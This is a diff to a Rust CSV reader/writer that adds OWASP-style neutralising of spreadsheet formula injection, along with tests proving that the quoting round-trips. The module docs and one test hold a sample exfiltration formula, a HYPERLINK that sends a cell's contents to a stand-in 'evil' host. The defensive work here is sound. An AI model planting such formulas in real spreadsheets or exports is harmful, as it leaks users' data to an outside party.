@@ -10,6 +10,22 @@
 //!
 //! Each record reports the 1-based line it starts on, counting the line breaks
 //! inside quoted fields, so errors point at the line an editor shows.
+//!
+//! ## Formula injection
+//!
+//! Every CSV written here is meant to be opened in a spreadsheet, and a
+//! spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a
+//! carriage return as a formula (`=HYPERLINK("http://evil/?d="&B2,"click")`
+//! typed as a call-back name would send the row away). So a **text** cell is
+//! written *neutralised* (OWASP): when it begins with one of those characters,
+//! or with one or more `'` followed by one of them, one `'` is put in front.
+//! Reading a text cell ([`restore`]) takes one `'` off exactly when the cell is
+//! `'`, then any number of `'`, then one of those characters — the cells the
+//! writer produces — and leaves every other cell as it is. The rule is a
+//! bijection: `restore(neutralise(t)) == t` for every text, and a cell that
+//! nobody neutralised (`=1+1`, `-3 dB`, `'plain`) reads as written. Numbers
+//! (scale answers) are not text: they are written and read as they are
+//! ([`Cell::Number`]).
 
 use std::borrow::Cow;
 
@@ -178,8 +194,46 @@ impl<'a> Reader<'a> {
     }
 }
 
-/// Appends `field` to `out`, quoted when it holds a comma, a quote or a line
-/// break, or begins or ends with a space (which some readers trim).
+/// Whether a spreadsheet would run `cell` as a formula, or whether it is such
+/// a cell behind quotes (`'*` then `=`, `+`, `-`, `@`, tab or CR).
+fn guarded(cell: &str) -> bool {
+    cell.trim_start_matches('\'')
+        .starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A text cell as it is written: with one more `'` in front if it begins with
+/// a formula character, or with quotes and then one (see the module docs).
+pub fn neutralise(text: &str) -> Cow<'_, str> {
+    if guarded(text) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// A text cell as it is read: the inverse of [`neutralise`], so one `'` is
+/// taken off a cell that is `'`, then quotes, then a formula character; any
+/// other cell is the text itself.
+pub fn restore(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if guarded(rest) => rest,
+        _ => cell,
+    }
+}
+
+/// One cell of a record to write.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Cell<'s> {
+    /// Text: written [`neutralise`]d.
+    Text(&'s str),
+    /// A number (or a code that is never text, such as a scale answer):
+    /// written as it is.
+    Number(&'s str),
+}
+
+/// Appends `field` to `out` as it is, quoted when it holds a comma, a quote or
+/// a line break, or begins or ends with a space (which some readers trim).
+/// Text cells go through [`neutralise`] first ([`write_record`], [`write_cells`]).
 pub fn write_field(out: &mut Vec<u8>, field: &str) {
     let needs_quotes = field
         .bytes()
@@ -200,13 +254,23 @@ pub fn write_field(out: &mut Vec<u8>, field: &str) {
     }
 }
 
-/// Appends one record, fields separated by commas and ended by CRLF (RFC 4180).
+/// Appends one record of text cells, each [`neutralise`]d, separated by commas
+/// and ended by CRLF (RFC 4180).
 pub fn write_record<'s>(out: &mut Vec<u8>, fields: impl IntoIterator<Item = &'s str>) {
-    for (i, f) in fields.into_iter().enumerate() {
+    write_cells(out, fields.into_iter().map(Cell::Text));
+}
+
+/// Appends one record: text cells [`neutralise`]d, numbers as they are,
+/// separated by commas and ended by CRLF (RFC 4180).
+pub fn write_cells<'s>(out: &mut Vec<u8>, cells: impl IntoIterator<Item = Cell<'s>>) {
+    for (i, cell) in cells.into_iter().enumerate() {
         if i > 0 {
             out.push(b',');
         }
-        write_field(out, f);
+        match cell {
+            Cell::Text(t) => write_field(out, &neutralise(t)),
+            Cell::Number(n) => write_field(out, n),
+        }
     }
     out.extend_from_slice(b"\r\n");
 }
@@ -306,5 +370,79 @@ mod tests {
             String::from_utf8(out).expect("utf8"),
             "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\" pad\",中文\r\n"
         );
+    }
+
+    #[test]
+    fn text_cells_that_a_spreadsheet_would_run_get_a_quote() {
+        let mut out = Vec::new();
+        write_record(
+            &mut out,
+            [
+                "=HYPERLINK(\"http://evil/?d=\"&B2,\"click\")",
+                "+1",
+                "-2",
+                "@SUM(A1)",
+                "\tx",
+                "\rx",
+                "'=already",
+                "''+twice",
+                "'plain",
+                "a=b",
+                "",
+            ],
+        );
+        assert_eq!(
+            String::from_utf8(out).expect("utf8"),
+            "\"'=HYPERLINK(\"\"http://evil/?d=\"\"&B2,\"\"click\"\")\",'+1,'-2,'@SUM(A1),'\tx,\
+             \"'\rx\",''=already,'''+twice,'plain,a=b,\r\n"
+        );
+        let mut out = Vec::new();
+        write_cells(
+            &mut out,
+            [Cell::Number("-5"), Cell::Text("-5"), Cell::Number("10")],
+        );
+        assert_eq!(out, b"-5,'-5,10\r\n");
+    }
+
+    #[test]
+    fn restore_takes_off_exactly_the_quote_the_writer_added() {
+        for (text, cell) in [
+            ("=1+1", "'=1+1"),
+            ("\t", "'\t"),
+            ("\r", "'\r"),
+            ("'-", "''-"),
+            ("''@", "'''@"),
+            ("'", "'"),
+            ("''", "''"),
+            ("'x", "'x"),
+            ("x=1", "x=1"),
+            ("", ""),
+            (" =1", " =1"),
+        ] {
+            assert_eq!(neutralise(text), cell, "{text:?}");
+            assert_eq!(restore(cell), text, "{cell:?}");
+        }
+        // Cells nobody neutralised read as written.
+        for cell in ["=1+1", "-3 dB", "@home", "'plain", "中文"] {
+            assert_eq!(restore(cell), cell);
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn neutralise_is_safe_and_restore_inverts_it(
+            text in "['=+@\\-\t\r \"a中]{0,5}.{0,3}"
+        ) {
+            let cell = neutralise(&text);
+            proptest::prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
+            proptest::prop_assert_eq!(restore(&cell), text.as_str());
+            // What the writer writes, the reader reads as the same cell.
+            let mut out = Vec::new();
+            write_record(&mut out, ["start", text.as_str(), "end"]);
+            let read = read_all(&out);
+            proptest::prop_assert_eq!(read.len(), 1);
+            let fields = read[0].clone().map(|(_, f)| f).unwrap_or_default();
+            proptest::prop_assert_eq!(restore(&fields[1]), text.as_str());
+        }
     }
 }
